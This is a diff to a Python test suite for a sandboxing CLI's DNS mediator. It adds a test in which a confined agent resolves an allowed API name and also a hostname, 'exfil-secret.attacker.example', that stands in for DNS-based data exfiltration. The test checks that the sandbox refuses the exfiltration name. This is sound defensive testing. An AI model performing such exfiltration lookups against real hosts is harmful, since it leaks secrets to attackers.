@@ -337,13 +337,10 @@ def dns_survives_restart(env):
     check(r.get("rcode") == 5, "after: redirect lost: %r" % r)
 
 
-def dns_gensee_run(env):
-    """The CLI path: `gensee run --sandbox linux --allow-net NAME,tcp,PORT`.
-    The agent queries the resolver its resolv.conf would name (192.0.2.53);
-    the operation's table redirects it to its loopback proxy, and only the
-    answered address of the allowed name becomes reachable. The agent's
-    very first lookup works: gensee run releases it only once the proxy
-    listens."""
+def local_setup(env):
+    """boundaryd, the mediator, the test resolver (192.0.2.53) and TCP
+    servers (192.0.2.10 and .20 on 8443) in one namespace, as on a host
+    where the agent runs beside the daemons."""
     env.use_netns()
     ns = env.netns
     for a in ("192.0.2.10", "192.0.2.20", "192.0.2.53"):
@@ -377,6 +374,17 @@ def dns_gensee_run(env):
                            stdout=open(medlog, "a"), stderr=subprocess.STDOUT)
     env.children.append(med)
     env.wait_for("the mediator", lambda: "confined as" in open(medlog).read())
+    return ns, d, dnslog, medlog
+
+
+def dns_gensee_run(env):
+    """The CLI path: `gensee run --sandbox linux --allow-net NAME,tcp,PORT`.
+    The agent queries the resolver its resolv.conf would name (192.0.2.53);
+    the operation's table redirects it to its loopback proxy, and only the
+    answered address of the allowed name becomes reachable. The agent's
+    very first lookup works: gensee run releases it only once the proxy
+    listens."""
+    ns, d, dnslog, medlog = local_setup(env)
     # A malformed hostname entry is refused before anything starts.
     r = env.gensee("run", "--sandbox", "linux", "--allow-net", "api.example.com,tcp", "--",
                    "/bin/true")
@@ -419,9 +427,44 @@ def dns_gensee_run(env):
     check(json.loads(r.stdout).get("rcode") == 0, "outside the operation: %s" % r.stdout)
 
 
+def dns_run_network_config(env):
+    """gensee run --network-config FILE (root): a config's dns section for a
+    cgroup operation, no client_address, listen on an address of the host;
+    the same redirect, leases and refusals."""
+    ns, d, dnslog, medlog = local_setup(env)
+    cfg = os.path.join(d, "op_cfg.json")
+    with open(cfg, "w") as f:
+        json.dump({"schema_version": 3, "operation_id": "op_dns_cfg",
+                   "envelope": {"grants": [
+                       {"destination": "198.51.100.1", "protocol": "udp", "ports": [5353]},
+                       {"destination": "198.51.100.1", "protocol": "tcp", "ports": [5353]}]},
+                   "policy": {"schema_version": 1, "restricted_destinations": [],
+                              "in_place_lease_scopes": [], "max_in_place_lease_ttl_seconds": 0},
+                   "dns": {"listen": "198.51.100.1:5353",
+                           "allow": [{"name": "api.example.com", "protocol": "tcp",
+                                      "ports": [8443]}]}}, f)
+    os.chmod(cfg, 0o600)
+    cmd = ["/usr/bin/python3", env.tool("dnsclient.py"), "--agent", "203.0.113.53", "8443",
+           "api.example.com", "exfil-secret.attacker.example"]
+    r = env.gensee("run", "--sandbox", "linux", "--network-config", cfg, "--json", "--", *cmd,
+                   as_root=True, timeout=120)
+    check(r.returncode == 0, "run: rc %d %s" % (r.returncode, r.stderr))
+    child = [l for l in r.stderr.splitlines() if l.startswith("{")]
+    check(child, "no agent output: %s\n%s" % (r.stderr, open(medlog).read()))
+    got = json.loads(child[0])
+    check(got["api.example.com"] == {"rcode": 0, "addrs": ["192.0.2.10"], "connect": "ok"},
+          "allowed name: %r\n%s" % (got, open(medlog).read()))
+    check(got["exfil-secret.attacker.example"].get("rcode") == 5, "denied name: %r" % got)
+    # The direct connect to the other server is outside the envelope.
+    with open(dnslog) as f:
+        seen = [json.loads(l) for l in f if l.strip()]
+    check([q["name"] for q in seen] == ["api.example.com"], "upstream saw: %r" % seen)
+
+
 if __name__ == "__main__":
     main({"dns_allowed_names_leased": dns_allowed_names_leased,
           "dns_refusals": dns_refusals,
           "dns_ttl_expiry": dns_ttl_expiry,
           "dns_survives_restart": dns_survives_restart,
-          "dns_gensee_run": dns_gensee_run})
+          "dns_gensee_run": dns_gensee_run,
+          "dns_run_network_config": dns_run_network_config})
